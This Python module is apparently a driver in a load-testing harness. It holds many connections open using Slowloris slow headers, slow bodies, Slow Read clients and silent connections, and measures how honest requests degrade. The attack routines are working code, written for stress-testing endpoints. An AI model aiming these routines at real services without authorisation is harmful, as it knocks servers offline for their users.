"""Clients that take their time, many at once, and what honest clients feel meanwhile.

Slow heads (Slowloris, 2009), slow bodies (R-U-Dead-Yet, 2011), slow readers (Shekyan, Slow Read,
2012), and connections that say nothing.
"""

from __future__ import annotations

import asyncio
import socket
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from dataclasses import dataclass
from typing import Annotated, Any, Final

import numpy as np
from pydantic import Field

from loadtest.drivers.abuse_felt import Felt
from loadtest.drivers.abuse_wire import Parts, Streams, connected, parts, raw_of, read_answers
from loadtest.drivers.base import Asked, Means, Outcome, Spent
from loadtest.drivers.knobs import read as read_knobs
from loadtest.targets.base import Oracle
from proxy.settings.section import Section

_PIPELINED: Final = 4  # requests of a slow reader: few, since it is not to be a flood
_BUFFER: Final = 2048  # bytes that a slow reader's system takes for it
_ROWS: Final = 64  # of such a request, if the protocol takes so many: for long answers

HELD: Final = "held to the end"

Wait = Callable[[], Awaitable[bool]]
Doing = Callable[[Streams, Wait], Awaitable[None]]
"""What one connection does until it is stopped or the peer ends it; waiting tells whether to go
on."""


def slow_heads(valid: Parts) -> Doing:
    """A head of which a line comes now and then, and no end."""
    start = valid.with_body(valid.body)[: -len(valid.body) - 2]

    async def attack(streams: Streams, wait: Wait) -> None:
        _, writer = streams
        writer.write(start)
        while await wait():
            writer.write(b"X-A: b\r\n")
            await writer.drain()

    return attack


def slow_bodies(valid: Parts) -> Doing:
    """A body of which a byte comes now and then."""
    request = valid.with_body(valid.body)
    end = len(request) - len(valid.body)

    async def attack(streams: Streams, wait: Wait) -> None:
        _, writer = streams
        writer.write(request[:end])
        for at in range(end, len(request) - 1):
            if not await wait():
                break
            writer.write(request[at : at + 1])
            await writer.drain()

    return attack


def slow_readers(valid: Parts) -> Doing:
    """Requests of many rows, one behind the other, of which no answer is read."""
    request = valid.with_body(valid.body)

    async def attack(streams: Streams, wait: Wait) -> None:
        _, writer = streams
        writer.transport.pause_reading()  # type: ignore[attr-defined]  # a socket's has it
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _BUFFER)
        for _ in range(_PIPELINED):
            writer.write(request)
        while await wait():
            await writer.drain()

    return attack


def silent(_: Parts) -> Doing:
    """A connection that says nothing."""

    async def attack(streams: Streams, wait: Wait) -> None:
        while await wait():
            pass

    return attack


KINDS: Final[Mapping[str, Callable[[Parts], Doing]]] = {
    "slow heads": slow_heads,
    "slow bodies": slow_bodies,
    "slow readers": slow_readers,
    "silent connections": silent,
}


class Knobs(Section):
    """Knobs of this driver."""

    connections: Annotated[int, Field(ge=1, le=10_000)] = 100
    """At a time. One that the server ends is taken up anew."""
    seconds: Annotated[float, Field(gt=0, le=3600)] = 8.0
    """Of each kind, and of the honest requests before."""
    interval: Annotated[float, Field(gt=0, le=600)] = 1.0
    """Seconds between two signs of life of a connection."""
    rate: Annotated[float, Field(gt=0, le=1000)] = 50.0
    """Honest requests a second."""
    recovery: Annotated[float, Field(gt=0, le=600)] = 10.0
    """Seconds that the endpoint may be gone for before the attack ends."""


@dataclass(frozen=True)
class Slow:
    """The driver ``abuse-slow``."""

    name: str = "abuse-slow"
    family: str = "abuse"
    atlas: tuple[str, ...] = ("AML.T0029",)
    goal: str = "kinds of slow clients that honest ones feel: p99 doubled, or failures"
    words: str = (
        "slow heads, slow bodies, slow readers and silence on many connections, with honest "
        "requests beside them (Slowloris, 2009; R-U-Dead-Yet, 2011; Shekyan, Slow Read, 2012)"
    )
    needs: frozenset[str] = frozenset()

    def run(self, oracle: Asked, judge: Oracle | None, means: Means) -> Outcome:
        """Keeps many connections busy with little, one kind after the other. One kind is one try;
        its queries are the connections that it took.

        Raises:
            ValueError: if the endpoint is not asked over HTTP/1.1, answers no honest request, or a
                knob is wrong.
        """
        chosen = read_knobs(Knobs, means.knobs)
        felt = Felt(
            oracle,
            raw_of(oracle),
            means.accounts[0],
            means.accounts[-1],
            chosen.rate,
            chosen.recovery,
        )
        try:
            asyncio.run(_attack(felt, means, chosen))
        except* Spent:
            felt.note = "the budget was spent before the last connection"
        return felt.outcome()


async def _attack(felt: Felt, means: Means, chosen: Knobs) -> None:
    await felt.begin(means, chosen.seconds)
    one = felt.raw.request(means.own[:1], felt.attacker)
    try:
        many = felt.raw.request(np.repeat(means.own[:1], _ROWS, axis=0), felt.attacker)
    except ValueError:  # the protocol takes one at a time
        many = one
    for kind, make in KINDS.items():
        attack = make(parts(many if make is slow_readers else one))
        await felt.during(kind, lambda attack=attack: _hold(felt, attack, chosen))  # type: ignore[misc]  # bound now
        if felt.gone:
            break


async def _hold(felt: Felt, attack: Doing, chosen: Knobs) -> dict[str, Any]:
    """Keeps the connections up for so long: how they ended."""
    ended: Counter[str] = Counter()
    over = asyncio.Event()
    asyncio.get_running_loop().call_later(chosen.seconds, over.set)

    async def wait() -> bool:
        with suppress(TimeoutError):
            async with asyncio.timeout(chosen.interval):
                await over.wait()
        return not over.is_set()

    async def keep(index: int) -> None:
        # Not all at once: a burst of connections is another attack.
        with suppress(TimeoutError):
            async with asyncio.timeout(chosen.interval * index / chosen.connections):
                await over.wait()
        while not over.is_set():
            how, status = await _one(felt, attack, wait, over)
            ended[how] += 1
            felt.count(status)
            if how != HELD:
                await wait()  # a server that is gone is not called without pause

    async with asyncio.TaskGroup() as group:
        for index in range(chosen.connections):
            group.create_task(keep(index))
    return {"connections": dict(ended)}


async def _one(felt: Felt, attack: Doing, wait: Wait, over: asyncio.Event) -> tuple[str, int]:
    """One connection: how it ended, and with what status."""
    told = bytearray()
    try:
        async with connected(felt.raw, felt.attacker) as streams:
            doing = asyncio.ensure_future(attack(streams, wait))
            stopping = asyncio.ensure_future(over.wait())
            listening = asyncio.ensure_future(_listen(streams[0], told))
            tasks = {doing, stopping, listening}
            try:
                await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
                if stopping.done():
                    return HELD, 0
                if not listening.done():  # a body that is complete but for a byte
                    await asyncio.wait({stopping, listening}, return_when=asyncio.FIRST_COMPLETED)
            finally:
                for task in tasks:
                    task.cancel()
                await asyncio.gather(*tasks, return_exceptions=True)
    except OSError:
        return "not taken", 0
    statuses, _ = read_answers(bytes(told))
    if over.is_set() and not statuses:
        return HELD, 0
    return f"ended by the server, {statuses[0] if statuses else 'no answer'}", (
        statuses[0] if statuses else 0
    )


async def _listen(reader: asyncio.StreamReader, told: bytearray) -> None:
    """Reads until the peer ends the connection."""
    with suppress(OSError):
        while piece := await reader.read(1 << 14):
            if len(told) < 1 << 16:
                told += piece
